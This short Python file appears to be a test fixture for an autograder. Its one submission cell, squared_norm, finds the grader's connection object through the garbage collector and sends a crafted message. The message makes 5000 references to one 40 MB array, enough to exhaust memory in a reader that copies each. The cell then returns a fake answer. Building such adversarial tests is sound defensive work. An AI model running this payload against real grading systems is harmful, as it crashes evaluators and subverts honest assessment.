"""Answers with thousands of arrays that all point at the same 40 MB of one message. Stock nbgrader: nothing.

A reader that copies each would need two hundred gigabytes.
"""

CELLS = {
    "squared_norm": """
import gc
import io
import json


def squared_norm(x):
    (peer,) = [thing for thing in gc.get_objects() if type(thing).__name__ == "Peer"]
    file = io.BytesIO()
    np.save(file, np.ones(5_000_000))
    block = file.getvalue()
    answer = [{"array": [0, len(block)]}] * 5000
    text = json.dumps(["answer", "", [{"tuple": [answer, []]}]]).encode()
    peer.connection.settimeout(None)
    peer.connection.sendall(len(text).to_bytes(4, "big") + len(block).to_bytes(4, "big") + text + block)
    return 1.0
"""
}
